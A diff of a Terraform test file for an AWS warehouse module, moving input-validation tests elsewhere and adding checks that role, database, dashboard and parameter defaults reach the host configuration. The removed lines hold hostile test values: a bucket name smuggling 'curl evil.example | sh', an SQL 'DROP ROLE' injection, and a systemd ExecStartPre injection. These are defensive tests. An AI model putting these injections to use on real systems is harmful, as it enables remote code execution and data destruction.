@@ -1,6 +1,7 @@
-# Input validation of the warehouse module: each run feeds one hostile or wrong value and
-# expects that variable to refuse it. Runs against the AWS emulator (the harness writes the
-# provider override; ephemeral resources cannot be mocked), driven by tests/plan/test_warehouse.py.
+# The warehouse wrapper: what it adds to modules/postgres_host (its role, defaults, dashboards,
+# and that it refuses to exist without its loader). Hostile values of the shared inputs are
+# refused by postgres_host, whose own test file feeds them. Runs against the AWS emulator (the
+# ephemeral password cannot be mocked), driven by tests/plan/test_warehouse.py.
 
 variables {
   name                        = "cs-test"
@@ -12,70 +13,39 @@ variables {
   client_cidrs                = ["10.20.64.0/24"]
   s3_prefix_list_id           = "pl-63a5400a"
   endpoints_security_group_id = "sg-0fedcba9876543210"
-  artifacts = {
+  bundle = {
     bucket_name = "cs-test-artifacts"
     bucket_arn  = "arn:aws:s3:::cs-test-artifacts"
     kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
+    key         = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
+    sha256      = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
   }
 }
 
-run "valid_inputs_plan" {
+run "defaults_make_a_warehouse" {
   command = plan
   assert {
-    condition     = aws_instance.this.associate_public_ip_address == false && aws_instance.this.metadata_options[0].http_tokens == "required"
-    error_message = "the host must have no public IP and require IMDSv2"
+    condition     = strcontains(output.user_data, "ROLE='warehouse'") && strcontains(output.user_data, "DB_NAME='clickstream'") && strcontains(output.user_data, "ADMIN_USER='dw_admin'") && strcontains(output.user_data, "BACKUP_PREFIX='backups/dw/'")
+    error_message = "the warehouse defaults (role, database, owner, backup prefix) must reach host.env"
   }
   assert {
-    condition     = strcontains(local.user_data, "dnf install -y -q postgresql15-server") && strcontains(local.user_data, "--host 127.0.0.1 --port 8080")
-    error_message = "cloud-init must install PostgreSQL 15 from the repositories and bind Shiny to localhost"
+    condition     = strcontains(output.user_data, "DASHBOARD_USER='shiny'") && strcontains(output.user_data, "SHINY_PORT='8080'")
+    error_message = "the dashboards' login and port must reach host.env"
+  }
+  assert {
+    condition     = output.ca_parameter_name == "/cs-test/dw/tls-ca" && output.status_parameter_name == "/cs-test/dw/bootstrap-status" && output.password_parameter_name == "/cs-test/dw/dw_admin/password"
+    error_message = "the warehouse's parameters live under /<name>/dw/"
   }
 }
 
-run "internet_cidr_refused" {
+run "dashboards_port_reaches_the_host" {
   command = plan
-  variables { client_cidrs = ["0.0.0.0/0"] }
-  expect_failures = [var.client_cidrs]
-}
-
-run "shell_injection_in_bucket_refused" {
-  command = plan
-  variables {
-    artifacts = {
-      bucket_name = "x'; curl evil.example | sh; '"
-      bucket_arn  = "arn:aws:s3:::x"
-      kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
-    }
+  variables { shiny = { port = 8787 } }
+  assert {
+    condition     = strcontains(output.user_data, "SHINY_PORT='8787'")
+    error_message = "the dashboards' port must reach host.env (the port-forward command names it too; the apply test reads it)"
   }
-  expect_failures = [var.artifacts]
 }
-
-run "overlapping_prefixes_refused" {
-  command = plan
-  variables {
-    artifacts = {
-      bucket_name   = "cs-test-artifacts"
-      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
-      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
-      prefix        = "dw/"
-      backup_prefix = "dw/backups/"
-    }
-  }
-  expect_failures = [var.artifacts]
-}
-
-run "non_al2023_parameter_refused" {
-  command = plan
-  variables { ami = { ssm_parameter_name = "/aws/service/ami-windows-latest/Windows_Server-2022-English-Full-Base" } }
-  expect_failures = [var.ami]
-}
-
-run "sql_injection_in_role_refused" {
-  command = plan
-  variables { database = { admin_user = "admin\"; DROP ROLE postgres; --" } }
-  expect_failures = [var.database]
-}
-
-
 
 run "no_client_group_refused" {
   command = plan
@@ -83,8 +53,8 @@ run "no_client_group_refused" {
   expect_failures = [var.client_security_groups]
 }
 
-run "unit_file_injection_in_schedule_refused" {
+run "no_client_cidr_refused" {
   command = plan
-  variables { backup = { on_calendar = "daily\nExecStartPre=/bin/sh -c id" } }
-  expect_failures = [var.backup]
+  variables { client_cidrs = [] }
+  expect_failures = [var.client_cidrs]
 }
